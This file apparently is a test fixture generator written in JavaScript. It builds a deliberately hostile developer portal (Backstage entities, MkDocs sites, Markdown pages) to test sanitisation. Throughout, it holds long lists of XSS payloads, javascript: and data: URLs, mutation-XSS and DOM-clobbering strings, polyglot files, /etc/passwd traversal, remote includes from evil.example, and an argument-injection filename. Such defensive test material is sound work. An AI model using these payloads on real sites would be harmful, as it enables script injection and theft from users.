// Writes a portal whose every word attacks: each payload stands in every place that a repository may fill. A payload
// that runs calls `pwned()`, and one that loads asks `evil.example`.

import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

const B64 = (text) => Buffer.from(text).toString("base64");

/** Markup for places that take a text: titles, labels, names. */
export const MARKUP = [
  "++\"<img src=x onerror=pwned()>\"+ctrl++ {++<img src=x onerror=pwned()>++}{>>\" onclick=pwned()<<}",
  "`#!py\" onclick=pwned() x` `#!html <script>pwned()</script>`",
  "$\\text{<img src=x onerror=pwned()>}$ $\\href{javascript:pwned()}{x}$",
  "<script>pwned()</script>",
  "<ScRiPt>pwned()</sCrIpT>",
  "<script src=//evil.example/a.js></script>",
  "<script type=module src=https://evil.example/a.mjs></script>",
  "<script type=importmap>{\"imports\":{\"x\":\"https://evil.example/x\"}}</script>",
  "<<script>pwned();//<</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "</title><script>pwned()</script>",
  "</textarea></style></noscript></template><script>pwned()</script>",
  "--><script>pwned()</script><!--",
  "]]><script>pwned()</script>",
  "\"><script>pwned()</script>",
  "'><script>pwned()</script>",
  "`><script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "\"><img src=x onerror=pwned()>",
  "'><img src=x onerror=pwned()>",
  "\" onmouseover=pwned() autofocus onfocus=pwned() x=\"",
  "' onmouseover=pwned() autofocus onfocus=pwned() x='",
  " onload=pwned() ",
  "<img/src=x/onerror=pwned()>",
  "<img src=\"x\"onerror=\"pwned()\">",
  "<img src=https://evil.example/p.png>",
  "<img srcset='https://evil.example/p.png 2x'>",
  "<picture><source srcset=https://evil.example/p.png><img></picture>",
  "<svg onload=pwned()>",
  "<svg/onload=pwned()//",
  "<svg><script>pwned()</script></svg>",
  "<svg><script href='data:text/javascript,pwned()'/></svg>",
  "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>x</text></a></svg>",
  "<svg><a><set attributeName=href to=javascript:pwned() /><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=pwned()></svg>#x'>",
  "<svg><foreignObject><body onload=pwned()></foreignObject></svg>",
  "<svg><image href=https://evil.example/p.svg /></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\">",
  "<math><annotation-xml encoding=text/html><style><img src=x onerror=pwned()></style></annotation-xml></math>",
  "<math href=javascript:pwned()>x</math>",
  "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
  "<style><style/><img src=x onerror=pwned()></style>",
  "<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/b)}</style>",
  "<template><img src=x onerror=pwned()></template>",
  "<template shadowrootmode=open><script>pwned()</script></template>",
  "<select><template><img src=x onerror=pwned()></template></select>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
  "<table><caption><svg><desc><table><caption><style><!--</style><img src=x onerror=pwned()>",
  "<xmp><p title=\"</xmp><img src=x onerror=pwned()>\">",
  "<plaintext><script>pwned()</script>",
  "<iframe src=javascript:pwned()></iframe>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=javascript:pwned()></object>",
  "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
  "<embed src=javascript:pwned()>",
  "<embed src=https://evil.example/x.swf>",
  "<applet code=x></applet><frameset onload=pwned()><frame src=javascript:pwned()></frameset>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<link rel=preload as=script href=https://evil.example/a.js><link rel=dns-prefetch href=//evil.example>",
  "<form action=https://evil.example><button>x</button></form>",
  "<form id=search><input name=action><input name=querySelector></form>",
  "<button formaction=javascript:pwned()>x</button><input type=image src=https://evil.example/p.png>",
  "<input autofocus onfocus=pwned()>",
  "<details open ontoggle=pwned()><summary>x</summary></details>",
  "<video src=https://evil.example/v.mp4 onerror=pwned() autoplay></video>",
  "<video><source onerror=pwned()></video><audio src=x onerror=pwned()>",
  "<body onload=pwned() background=https://evil.example/b.png>",
  "<marquee onstart=pwned()>x</marquee>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example/b.png)' onanimationstart=pwned()>x</p>",
  "<div popover onbeforetoggle=pwned() id=x>x</div><button popovertarget=x>x</button>",
  "<x contenteditable tabindex=1 onfocus=pwned() autofocus>x</x>",
  "<a id=module></a><a id=module name=exports></a><img name=querySelector><img name=getElementById>",
  "<a id=documentElement></a><a id=cb:main></a><a id=currentScript name=currentScript>x</a>",
  "<div data-search-dialog data-search-page data-root=https://evil.example/ data-filter data-toc>x</div>",
  "<a href=javascript:pwned()>x</a><area href=javascript:pwned()>",
  "<a href=https://ok.example ping=https://evil.example target=_blank onclick=pwned()>x</a>",
  "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=x onerror=pwned()&#62;",
  "&amp;lt;img src=x onerror=pwned()&amp;gt;",
  "\\x3cscript\\x3epwned()\\x3c/script\\x3e \\u003cimg src=x onerror=pwned()\\u003e",
  "{{ page }}{% raw %}<script>pwned()</script>{% endraw %}{{ 7 * 7 | safe }}",
  "{%- include 'base.html' -%} {{ __tera_context }}",
  "${pwned()} #{pwned()} `${pwned()}` ');pwned();//",
  "\u2028pwned()\u2029</script><script>pwned()</script>",
  "\ufdd00\ufdd1<img src=x onerror=pwned()>\ufdd2&#xFDD0;0&#xFDD1;",
  "\u202e<img src=x onerror=pwned()>\u2066\u200b",
  "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
  "<?xml-stylesheet href='javascript:pwned()'?><!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/'>]><x>&e;</x>",
  "<!--[if true]><script>pwned()</script><![endif]--><![CDATA[<script>pwned()</script>",
  "[x](javascript:pwned()) ![x](https://evil.example/p.png) <javascript:pwned()>",
  "`<script>pwned()</script>` **<img src=x onerror=pwned()>**",
  "__proto__", "constructor",
];

/** Addresses that must not become links, or only harmless ones. */
export const ADDRESSES = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  " javascript:pwned()",
  "\u0001javascript:pwned()",
  "java\tscript:pwned()",
  "java\nscript:pwned()",
  "java\u200bscript:pwned()",
  "javascript\u00ad:pwned()",
  "\u00a0javascript:pwned()",
  "\u3000javascript:pwned()",
  "%01javascript:pwned()",
  "javascript&colon;pwned()",
  "&#106;avascript:pwned()",
  "&#x6A;avascript&#x3A;pwned()",
  "java&Tab;script:pwned()",
  "java&NewLine;script:pwned()",
  "javascript://ok.example/%0apwned()",
  "javascript:/*https://ok.example*/pwned()",
  "\\javascript:pwned()",
  "vbscript:pwned()",
  "data:text/html,<script>pwned()</script>",
  `data:text/html;base64,${B64("<script>pwned()</script>")}`,
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>pwned()</script>",
  "data:text/javascript,pwned()",
  "blob:https://ok.example/1",
  "filesystem:https://ok.example/1",
  "file:///etc/passwd",
  "view-source:javascript:pwned()",
  "intent://evil.example#Intent;scheme=https;end",
  "vscode://evil.example/x",
  "ms-msdt:/id x",
  "feed:javascript:pwned()",
  "jar:javascript:pwned()!/",
  "x-javascript:pwned()",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example",
  "/\t/evil.example",
  "https:evil.example",
  "https:///evil.example",
  "https://ok.example/\" onclick=pwned() x=\"",
  "https://ok.example/'><script>pwned()</script>",
  "https://ok.example/`onclick=pwned()",
  "https://ok.example/\u202e\u0000<img src=x onerror=pwned()>",
  "mailto:a@ok.example?subject=\"><script>pwned()</script>",
  "tel:+1\" onclick=pwned() x=\"",
  "../../../../../../etc/passwd",
  "#\"><img src=x onerror=pwned()>",
  "?q=<script>pwned()</script>",
];

/** Whole pages that attack the Markdown reader itself. */
const PAGES = [
  "[a]: javascript:pwned()\n[b]: <data:text/html,<script>pwned()</script>> \"\\\" onclick=pwned()\"\n\n[a] [b] ![a] ![b][b]",
  "# x {onclick=pwned()}\n\n## y {#id\" onclick=pwned() .c\" onclick=pwned()}\n\n[a](b.md){: onclick=pwned() style=x href=javascript:pwned() }",
  "# Module\n\n# Exports\n\n## currentScript\n\n## constructor\n\n## __proto__ {#__proto__}\n\n## bad percent {#a%zz}\n\n## main {#cb:main}\n\n## tab {#cb-tab-1-1}\n\n## definition\n\n## querySelector\n\n## location\n\n## document\n\n## self\n\n## history",
  "<div markdown=\"1\" onclick=pwned()>\n\n<script>pwned()</script>\n\n[x](javascript:pwned())\n\n</div>",
  "<div title=\"\n\n```\n\" onclick=pwned() x=\"\n```\n\n\">",
  "```mermaid\ngraph TD\n  %%{init: {\"securityLevel\":\"loose\"}}%%\n  A[\"<img src=x onerror=pwned()>\"] --> B\n  click A \"javascript:pwned()\"\n  click B call pwned()\n```",
  "```plantuml\n!include https://evil.example/x\n!include /etc/passwd\n```\n\n```python exec=\"on\" html=\"true\"\nprint('<script>pwned()</script>')\n```",
  "$\\href{javascript:pwned()}{x}$ $$\\htmlData{x=\"onclick=pwned()\"}{y} \\unicode{<script>pwned()</script>}$$ \\(\\url{javascript:pwned()}\\)",
  "```mermaid\nflowchart LR\n  A[\"<img src=x onerror=pwned()><script>pwned()</script>\"] -->|\"<svg onload=pwned()>\"| B\n  click A \"javascript:pwned()\"\n  click B call pwned()\n  style A fill:url(https://evil.example/x)\n```",
  "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true, \"themeCSS\": \"*{background:url(https://evil.example/x)}\"}}%%\nmindmap\n  root((<img src=x onerror=pwned()>))\n    <a href='javascript:pwned()'>x</a>\n```",
  "--8<-- \"https://evil.example/x.md\"\n\n--8<-- \"../../../../etc/passwd\"\n\n{% include \"../../../../etc/passwd\" %}\n\n{{#include ../../../etc/passwd}}\n\n{{ config.__class__ }}",
  ":<img src=x onerror=pwned()>: :smile\" onclick=pwned(): :fontawesome-brands-\"><script>pwned()</script>:",
  "*[HTML]: \"><img src=x onerror=pwned()>\n*[<script>]: pwned()\n\nHTML <script> HTML",
  "- [x] <img src=x onerror=pwned()>\n- [ ] <input type=checkbox onclick=pwned() autofocus onfocus=pwned()>",
  "<https://ok.example/\"onclick=pwned()> <javascript:pwned()> <a\"onclick=pwned()@ok.example> www.ok.example/\"onclick=pwned()",
  "![\\\" onerror=pwned() x=\\\"](x.png \"\\\" onerror=pwned() x=\\\"\"){ width=\"1\\\" onerror=pwned()\" loading=\"x onerror=pwned()\" }",
  "???+ <script>pwned()</script> \"a\\\"><img src=x onerror=pwned()>\"\n    x\n\n!!! \"><img src=x onerror=pwned()>\n    x\n\n:::danger{onclick=pwned()} <img src=x onerror=pwned()>\nx\n:::",
  "=== \"</label><img src=x onerror=pwned()>\"\n\n    <label for=cb-tab-1-1 onclick=pwned()>x</label>\n\n=== \"\\\" onclick=pwned() x=\\\"\"\n\n    x",
  "{++<script>pwned()</script>++} {--<img src=x onerror=pwned()>--} {>>\"><script>pwned()</script><<} ==<svg onload=pwned()>== ^^<script>^^ ++\"<img src=x onerror=pwned()>\"++",
  `${"<b>".repeat(600)}<svg><style><a title="</style><img src=x onerror=pwned()>">${"</b>".repeat(600)}`,
  `${"> ".repeat(200)}<img src=x onerror=pwned()>\n\n${"<div>".repeat(520)}<table><style><!--</style><img src=x onerror=pwned()>`,
  "<a href=\"jav&#x0A;ascript:pwned()\">x</a> <a href='&#14;  javascript:pwned()'>x</a> <a\u000chref=javascript:pwned()>x</a> <a href=\"javascript:pwned()\" href=\"https://ok.example\">x</a>",
  "<img src=\"&#106;avascript:pwned()\" alt=\"x\" usemap=#m lowsrc=javascript:pwned() dynsrc=javascript:pwned() longdesc=javascript:pwned()><map name=m><area href=javascript:pwned()></map>",
  "<table background=https://evil.example/b.png><tr><td background=javascript:pwned() onclick=pwned()>x</td></tr></table><blockquote cite=javascript:pwned()>x</blockquote><q cite=javascript:pwned()>x</q>",
  "<p class=\"cb-modal search-dialog icon-menu top\" id=cb-search data-theme-switch>x</p><dialog open data-search-dialog>x</dialog><nav class=top>x</nav>",
];

const GRAPHQL = `"""\n</code></pre><script>pwned()</script>\n"""\ntype Query { a: String @deprecated(reason: "<img src=x onerror=pwned()>") }`;
const OPENAPI = JSON.stringify({
  openapi: "3.0.0",
  info: { title: MARKUP[0], description: MARKUP[14], version: "1", contact: { url: "javascript:pwned()" } },
  externalDocs: { url: "javascript:pwned()", description: MARKUP[25] },
  servers: [{ url: "javascript:pwned()//" }],
  paths: { ["/<img src=x onerror=pwned()>"]: { get: { summary: MARKUP[11], operationId: MARKUP[17], responses: { 200: { description: MARKUP[48] } } } } },
});
const XHTML = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><script>window.pwned&amp;&amp;pwned()</script></head><body/></html>".replaceAll("&amp;", "&#38;");

const SVGS = {
  "script.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>",
  "onload.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
  "UPPER.SVG": "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
  "prefix.svg": "<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>pwned()</s:script></s:svg>",
  "xhtml.svg": "<svg xmlns='http://www.w3.org/2000/svg'><h:script xmlns:h='http://www.w3.org/1999/xhtml'>pwned()</h:script></svg>",
  "foreign.svg": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='pwned()'/></foreignObject></svg>",
  "link.svg": "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:pwned()'><text y='20'>x</text></a></svg>",
  "set.svg": "<svg xmlns='http://www.w3.org/2000/svg'><a><set attributeName='href' to='javascript:pwned()'/></a></svg>",
  "entity.svg": "<!DOCTYPE svg [<!ENTITY x '&#60;script xmlns=\"http://www.w3.org/2000/svg\">pwned()&#60;/script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
  "sheet.svg": "<?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
  "fetch.svg": "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/p.png'/><style>@import 'https://evil.example/a.css';</style></svg>",
  "escape.svg": "<svg xmlns='http://www.w3.org/2000/svg'><style>*{background:u\\72l(https://evil.example/b)}</style><rect width='9' height='9'/></svg>",
  "html.svg": "<html><body><script>pwned()</script></body></html>",
  "utf16.svg": Buffer.from("\ufeff<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>", "utf16le"),
  "utf7.svg": "<?xml version='1.0' encoding='utf-7'?><svg xmlns='http://www.w3.org/2000/svg'>+ADw-script+AD4-pwned()+ADw-/script+AD4-</svg>",
  "latin.svg": Buffer.concat([Buffer.from("<?xml version='1.0' encoding='ISO-2022-JP'?><svg xmlns='http://www.w3.org/2000/svg'>"), Buffer.from("\u001b$B\u001b(B<script>pwned()</script></svg>")]),
};
const HTML = "<!doctype html><html><body><script>pwned()</script></body></html>";
/** Files that are not what their names say, and files that a host would run. */
const FILES = {
  ...SVGS,
  ...Object.fromEntries(["png", "jpg", "jpeg", "gif", "webp", "avif", "ico", "bmp", "mp4", "webm", "ogv", "mp3", "ogg", "wav", "pdf", "zip", "csv", "txt"]
    .map((extension) => [`polyglot.${extension}`, HTML])),
  ...Object.fromEntries(["html", "htm", "xhtml", "xht", "shtml", "xml", "xsl", "mhtml", "js", "mjs", "wasm", "swf", "hta", "php", "json", "css", "svgz"]
    .map((extension) => [`page.${extension}`, HTML])),
  "gif.gif": "GIF89a/*<script>pwned()</script>*/=1;pwned()",
  "sw.js": "pwned()", "_headers": "/*\n  X: y", "404.html": HTML, "robots.txt": "x", "CNAME": "evil.example",
};
const NAMES = ["<img src=x onerror=pwned()>", "\"onmouseover=pwned() x=\"", "'onmouseover=pwned() x='", "javascript:pwned()", "a#b", "a?b=c", "%3Cscript%3Epwned()", "a&lt;b", "{{ 7 }}", "a\nb", "--upload-pack=x", "\u202egnp"];

const yaml = (value) => JSON.stringify(value);

/** How many payloads there are. */
export const N_PAYLOADS = MARKUP.length + ADDRESSES.length + PAGES.length + Object.keys(FILES).length + NAMES.length;

/** Writes the portal into a folder. */
export function writeHostilePortal(folder) {
  const write = (path, bytes) => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), bytes);
  };
  write("book.toml", `[book]\ntitle = ${yaml(MARKUP[7])}\n[portal]\norganization = ${yaml(MARKUP[15])}\nhome = "home.md"\n` +
    `base-url = "https://portal.example/"\n[[source]]\npath = "repos/*"\nurl = "https://git.example/acme/{name}"\nref = "main"\n`);
  write("home.md", [...MARKUP.slice(0, 60), ...PAGES.slice(0, 5)].join("\n\n"));
  writeEntities(write);
  writeDocs(write);
  write(`repos/"><img src=x onerror=pwned()>/README.md`, "# x");
  write("repos/book/book.toml", `[book]\ntitle = ${yaml(MARKUP[7])}\ndescription = ${yaml(MARKUP[14])}\n`);
  write("repos/book/src/SUMMARY.md", `# ${MARKUP[14]}\n\n- [${MARKUP[15]}](a.md)\n- [x](javascript:pwned())\n- [x](https://evil.example/x)\n`);
  write("repos/book/src/a.md", [...MARKUP, ...PAGES].join("\n\n"));
  return folder;
}

/** Every kind of entity, each field of which is a payload. */
function writeEntities(write) {
  MARKUP.forEach((markup, idx) => {
    const url = ADDRESSES[idx % ADDRESSES.length];
    const metadata = `metadata:\n  name: m${idx}\n  title: ${yaml(markup)}\n  description: ${yaml(markup)}\n  tags: [${yaml(markup)}, ok]\n` +
      `  labels: { ${yaml(markup)}: x, x: ${yaml(markup)} }\n  annotations: { ${yaml(markup)}: x, a.example/b: ${yaml(markup)}, a.example/url: ${yaml(url)},\n` +
      `    backstage.io/view-url: ${yaml(url)}, backstage.io/edit-url: ${yaml(url)}, backstage.io/source-location: ${yaml(`url:${url}`)}, backstage.io/techdocs-ref: ${yaml(`url:${url}`)} }\n` +
      `  links:\n    - { url: ${yaml(url)}, title: ${yaml(markup)}, icon: ${yaml(markup)}, type: ${yaml(markup)} }\n    - { url: "https://ok.example/", title: ${yaml(markup)}, icon: ${yaml(markup)}, type: ${yaml(markup)} }\n`;
    const profile = `profile: { displayName: ${yaml(markup)}, email: ${yaml(`${url}@x`)}, picture: ${yaml(url)} }`;
    const spec = `type: ${yaml(markup)}, lifecycle: ${yaml(markup)}, owner: ${yaml(markup)}, system: ${yaml(markup)}, dependsOn: [${yaml(markup)}, ${yaml(url)}], unknown: ${yaml(markup)}`;
    const definitions = [GRAPHQL, OPENAPI, XHTML, HTML, markup, `${markup}\n`.repeat(3)];
    const kinds = [
      ["Component", `spec: { ${spec} }`],
      ["API", `spec: { ${spec.replace(yaml(markup), yaml(["graphql", "openapi", "wsdl", "grpc", "trpc", markup, "asyncapi"][idx % 7]))}, definition: ${yaml(definitions[idx % definitions.length])} }`],
      ["Group", `spec: { type: ${yaml(markup)}, ${profile}, children: [${yaml(markup)}], members: [user:u${idx}] }`],
      ["User", `spec: { ${profile}, memberOf: [m${idx}] }`],
      ["Location", `spec: { type: url, targets: [${yaml(markup)}, ${yaml(url)}, "../../../../etc/passwd"] }`],
      ["Template", `spec: { ${spec}, steps: [{ id: x, action: ${yaml(markup)} }] }`],
      [yaml(markup), `spec: { ${spec} }`],
      ["Oddity", `spec: { ${spec} }`],
    ];
    // Every payload as a component; the other kinds in turn.
    const [kind, rest] = kinds[1 + (idx % (kinds.length - 1))];
    const document = (kind, rest) => `---\napiVersion: backstage.io/v1alpha1\nkind: ${kind}\n${metadata}${rest}\n`;
    write(`repos/entities/e${idx}.yaml`, document(...kinds[0]) + document(kind, rest));
  });
  const named = MARKUP.map((markup) => `---\napiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata: { name: ${yaml(markup)}, namespace: ${yaml(markup)} }\nspec: { type: x, owner: x }\n`);
  write("repos/names/catalog-info.yaml", named.join(""));
  write("repos/broken/catalog-info.yaml", `apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: x\n  <script>pwned()</script>: [\n  "><img src=x onerror=pwned()>`);
}

/** Docs sites: each payload in every place of a page, of a menu and of a folder. */
function writeDocs(write) {
  const perSite = 24;
  for (let site = 0; site * perSite < MARKUP.length; site++) {
    const repo = `repos/docs${site}`;
    const own = MARKUP.slice(site * perSite, (site + 1) * perSite);
    write(`${repo}/catalog-info.yaml`, `apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: docs${site}\n  annotations: { backstage.io/techdocs-ref: "dir:." }\nspec: { type: x, lifecycle: x, owner: x }\n`);
    write(`${repo}/mkdocs.yml`, `site_name: ${yaml(own[0])}\nsite_description: ${yaml(own.at(-1))}\nrepo_url: ${yaml(ADDRESSES[site])}\nedit_uri: ${yaml(ADDRESSES[site + 20])}\n` +
      `extra_javascript: [https://evil.example/a.js, a.js]\nextra_css: [https://evil.example/a.css]\nhooks: [x.py]\ntheme: { custom_dir: x, logo: ${yaml(ADDRESSES[site])}, favicon: x.html }\n` +
      `nav:\n  - index.md\n${own.map((markup, idx) => `  - ${yaml(markup)}: p${idx}.md\n  - ${yaml(markup)}: [${yaml(markup)}: q${idx}.md]\n  - ${yaml(markup)}: ${yaml(ADDRESSES[(site * perSite + idx) % ADDRESSES.length])}\n`).join("")}`);
    write(`${repo}/docs/a.js`, "pwned()");
    write(`${repo}/docs/index.md`, own.map((_, idx) => `- [${idx}](p${idx}.md)`).join("\n"));
    own.forEach((markup, idx) => write(`${repo}/docs/p${idx}.md`, page(markup, ADDRESSES[(site * perSite + idx) % ADDRESSES.length])));
  }
  write("repos/pages/mkdocs.yml", "site_name: Pages\n");
  PAGES.forEach((text, idx) => write(`repos/pages/docs/p${idx}.md`, text));
  const links = ADDRESSES.map((url) => `[x](<${url.replaceAll("\n", "&#10;")}>) [x](${url}) ![x](<${url}>) <${url}> <a href="${url}">x</a> <a href='${url}'>x</a> <img src="${url}" srcset="${url} 2x"> <a xlink:href="${url}">x</a>`);
  write("repos/pages/docs/addresses.md", links.join("\n\n"));
  write("repos/files/mkdocs.yml", "site_name: Files\n");
  const shown = Object.keys(FILES).map((name) => `![x](${name}) [x](${name}) <img src="${name}">`);
  write("repos/files/docs/index.md", shown.join("\n\n"));
  for (const [name, bytes] of Object.entries(FILES)) write(`repos/files/docs/${name}`, bytes);
  for (const name of NAMES) {
    write(`repos/files/docs/${name}.md`, "# x");
    write(`repos/files/docs/${name}/${name}.md`, "x");
    write(`repos/files/docs/${name}.svg`, "<svg xmlns='http://www.w3.org/2000/svg'/>");
  }
}

/** A page with a payload in every place that Markdown has. */
function page(markup, url) {
  const line = markup.replace(/[\r\n]/g, " ");
  return `---\ntitle: ${yaml(markup)}\ndescription: ${yaml(markup)}\nhide: [${yaml(markup)}]\ntags: [${yaml(markup)}]\n---\n\n# ${line}\n\n${markup}\n\n## ${line}\n\n` +
    `A paragraph with ${line} inside, \`${line}\` as code, **${line}** and [${line}](p1.md "${line}") and ![${line}](x.png "${line}").\n\n` +
    `[x](${url}) [x](<${url.replaceAll("\n", "&#10;")}>) ![x](${url}) <a href="${url}" title="${line}">x</a> <abbr title='${line}'>x</abbr> <p class="${line}" id='${line}' dir="${line}">x</p>\n\n` +
    `\`\`\`${line}\ncode\n\`\`\`\n\n\`\`\`js title="${line}" hl_lines="${line}"\n${line}\n\`\`\`\n\n~~~ { .${line} title='${line}' }\n${line}\n~~~\n\n` +
    `!!! note "${line}"\n    ${line}\n\n!!! ${line}\n    x\n\n??? tip "${line}"\n    ${line}\n\n> [!NOTE] ${line}\n> ${line}\n\n=== "${line}"\n    ${line}\n\n=== "b"\n    x\n\n` +
    `| ${line} | b |\n|---|---|\n| ${line} | ${line.replaceAll("|", "\\|")} |\n\nNote[^${line}] and[^1].\n\n[^1]: ${line}\n[^${line}]: ${line}\n\n[${line}]: ${url} "${line}"\n\n[${line}][] [r][${line}]\n\n` +
    `*[x]: ${line}\n\nTerm\n:   ${line}\n\n- ${line}\n  - [ ] ${line}\n\n1. ${line}\n\n{: #${line} .${line} title="${line}" }\n\n<div markdown="1">\n${line}\n</div>\n\n## End {: #${line} .${line} }\n`;
}
